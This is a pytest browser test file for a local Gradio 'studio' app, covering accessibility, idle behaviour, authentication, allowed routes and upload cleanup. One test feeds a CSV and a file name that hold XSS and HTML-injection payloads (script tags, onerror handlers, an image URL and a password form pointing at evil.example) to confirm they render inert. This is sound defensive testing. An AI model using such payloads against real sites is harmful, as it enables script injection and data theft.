"""The page in a browser, without teaching: for everybody, closed to strangers, deaf to what texts would have it do."""

import os
import re
import signal
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.browser.conftest import ROOT, Site, Visit, start, until_quiet
from tests.free_ports import free_port

pytestmark = [pytest.mark.browser, pytest.mark.slow]
RULES = {"runOnly": {"type": "tag", "values": ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa"]}}
NASTY = (
    "<img src=http://evil.example/a.png onerror=\"window.pwned=1\">", "![x](http://evil.example/leak.png?secret)",
    "<script>window.pwned=1</script>", "<div style=\"position:fixed;inset:0;z-index:99999;background:red\">over</div>",
    "<form action=http://evil.example><input type=password></form>", "<style>body{display:none}</style>",
)  # fmt: skip


def nasty_table(path: Path) -> Path:
    rows = [f"{text} number {n},{NASTY[(n + 1) % len(NASTY)]} and words {n}" for n, text in enumerate(NASTY * 5)]
    lines = ["question,answer", *('"' + row.replace('"', '""').replace(",", '","', 1) + '"' for row in rows)]
    path.write_text("\n".join(lines), encoding="utf-8")
    return path


@pytest.mark.parametrize(
    ("scheme", "width"),
    [
        ("light", 1360),
        ("dark", 390),
        *(pytest.param(*one, marks=pytest.mark.nightly) for one in (("dark", 1360), ("light", 390))),
    ],
)
def test_every_tab_can_be_read_and_used_by_everybody(
    site: Site, visit: Callable[..., Visit], scheme: str, width: int
) -> None:
    from axe_playwright_python.sync_playwright import Axe

    seen = visit(site.address, color_scheme=scheme)
    page = seen.page
    page.locator(".opening").wait_for(state="hidden")
    page.set_viewport_size({"width": width, "height": 860})
    for name in ("Examples", "Model", "Teach", "Compare", "Report", "Take home"):
        page.get_by_role("tab", name=name).click()
        page.get_by_role("tabpanel").filter(visible=True).first.wait_for()
        page.wait_for_timeout(1500)
        found = Axe().run(page, options=RULES).response["violations"]
        assert not found, [(rule["id"], rule["nodes"][0]["target"]) for rule in found]
        assert page.evaluate("document.documentElement.scrollWidth - innerWidth") <= 1, name
    assert not seen.errors and not seen.outside


def test_a_page_that_nobody_touches_draws_nothing_and_asks_nothing(site: Site, visit: Callable[..., Visit]) -> None:
    page = visit(site.address).page
    for name in ("Model", "Examples"):
        page.get_by_role("tab", name=name).click()
        until_quiet(page)
    page.wait_for_timeout(7000)  # the stream of the last press is held for five seconds
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.evaluate("window.frames_asked_for = 0")
    page.wait_for_timeout(2000)
    assert page.evaluate("window.frames_asked_for") == 0, "Gradio counts seconds frame by frame, also for what is gone"
    assert asked == []


@pytest.mark.long
def test_the_last_line_names_what_is_installed_otherwise_than_tested(
    site: Site, serve: Callable[..., Site], visit: Callable[..., Visit], tmp_path: Path
) -> None:
    pretended = tmp_path / "ftfy-9.9.9.dist-info"  # a package that only seems to be installed, before the real one
    pretended.mkdir()
    (pretended / "METADATA").write_text("Metadata-Version: 2.1\nName: ftfy\nVersion: 9.9.9\n")
    path = os.pathsep.join([str(tmp_path), str(ROOT / "tests" / "watch"), str(ROOT)])
    seen = visit(serve(environ={"PYTHONPATH": path}).address)
    said = seen.page.locator(".differs")
    said.get_by_text("Installed versions differ from the tested ones: ftfy 9.9.9 (tested: 6.3.1).").wait_for()
    assert not seen.errors
    tested = visit(site.address)
    assert tested.page.locator(".differs").count() == 0 or not tested.page.locator(".differs").is_visible()


def test_words_in_a_table_stay_words(serve: Callable[..., Site], visit: Callable[..., Visit], tmp_path: Path) -> None:
    seen = visit(serve().address)
    page = seen.page
    page.locator(".start input[type=file]").set_input_files(nasty_table(tmp_path / "<img src=x onerror=pwned=1>.csv"))
    page.get_by_role("button", name="Yes, this is right").click()
    page.get_by_text("How the model will read it").last.wait_for()
    page.get_by_role("button", name="Next: choose a model").wait_for()
    page.wait_for_timeout(1500)
    assert page.evaluate("window.pwned") is None
    assert page.locator("form, input[type=password], .prose img, .prose style").count() == 0
    assert not seen.outside, seen.outside
    assert not [error for error in seen.errors if "evil" in error], seen.errors


def test_strangers_on_this_computer_see_nothing(site: Site) -> None:
    place = site.address.split("/?")[0]
    assert httpx.get(f"{place}/healthz").json() == {"status": "ok"}
    assert httpx.get(place).status_code == 401
    assert httpx.get(f"{place}/config").status_code == 401
    assert httpx.get(site.address, headers={"host": "evil.example"}).status_code == 421
    policy = httpx.get(site.address, follow_redirects=True, headers={}).headers["content-security-policy"]
    assert "'unsafe-eval'" not in policy


def test_no_route_of_gradio_is_open_that_was_not_named(site: Site) -> None:
    from gradio.routes import App

    place, token = site.address.split("/?")
    with httpx.Client(base_url=place) as client:
        client.get(f"/?{token}")
        probe = App.create_app(__import__("gradio").Blocks())
        paths = {re.sub(r"\{[^}]*\}", "x", getattr(route, "path", "")) for route in probe.routes}
        opened = {path for path in paths if path and client.get(path).status_code == 200}
    assert opened <= {"/", "/config", "/config/", "/theme.css", "/favicon.ico", "/manifest.json", "/gradio_api/app_id",
                      "/gradio_api/startup-events", "/gradio_api/heartbeat/x"}  # fmt: skip


def test_what_would_open_it_is_refused_by_the_real_process_too(tmp_path: Path) -> None:
    """Every other way, and a busy port or home: tests/web/test_server.py."""
    words = ["serve", "--home", str(tmp_path / "h"), "--port", str(free_port()), "--no-browser", "--host", "0.0.0.0"]
    done = subprocess.run(
        [sys.executable, "-m", "studio", *words], cwd=ROOT, capture_output=True, text=True, timeout=120, check=False
    )
    assert done.returncode == 2 and "other computers" in done.stderr and "Traceback" not in done.stderr


def test_it_leaves_when_asked_and_gives_the_home_back(tmp_path: Path) -> None:
    first = start(tmp_path / "home")
    first.process.send_signal(signal.SIGTERM)
    assert first.process.wait(timeout=60) == 0
    again = start(tmp_path / "home")
    again.process.send_signal(signal.SIGTERM)
    again.process.wait(timeout=60)


def test_uploads_do_not_stay_behind(site: Site, visit: Callable[..., Visit], tmp_path: Path) -> None:
    page: Any = visit(site.address).page
    picture = tmp_path / "picture.csv"
    picture.write_bytes(b"\x89PNG\r\n\x1a\n" + b"\0" * 500)
    page.locator(".start input[type=file]").set_input_files(picture)
    page.get_by_role("alert").first.wait_for()
    assert not [path for path in (site.home / "uploads").rglob("*") if path.is_file() and path.stat().st_size]
    assert not list((site.home / "projects").iterdir())
    assert (site.home / "uploads").stat().st_mode & 0o077 == 0
